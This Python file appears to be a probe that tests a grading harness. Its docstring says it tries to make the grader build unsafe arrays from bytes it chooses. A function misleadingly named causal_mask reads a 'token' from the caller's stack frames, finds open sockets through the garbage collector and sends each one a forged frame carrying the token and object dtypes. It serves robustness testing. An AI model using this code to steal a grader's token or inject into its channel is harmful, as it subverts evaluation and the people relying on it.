"""Tries to have the grader build arrays of objects, dates, texts or records from bytes of its choice.

Harmless: one small frame a call, with the right token. Not shown in a plain process: there is no channel.
Shows: a grader that crashes, or a report that does not say forbidden.
"""

import gc
import json
import socket
import struct
import sys

TARGET: dict = {}
UNCONFINED = False
EARNS = 0.0
CODE = "forbidden"


TYPES = ("O", "|O", "V8", "S8", "U2", "M8[s]", "c16", "g", ">f8", [["f0", "O"]], "f8,O", "")


def token():
    frame = sys._getframe()
    while frame:
        header = frame.f_locals.get("header")
        if isinstance(header, dict) and "token" in header:
            return header["token"]
        frame = frame.f_back
    return ""


def attack(target):
    return ""


def causal_mask(seq_len):
    arrays = [[TYPES[seq_len % len(TYPES)], [1]]]
    head = json.dumps({"answer": "array", "arrays": arrays, "left": [], "output": "", "token": token()}).encode()
    for found in gc.get_objects():
        if type(found) is socket.socket and found.fileno() > 2:
            found.sendall(struct.pack(">II", len(head), 8) + head + b"\xff" * 8)
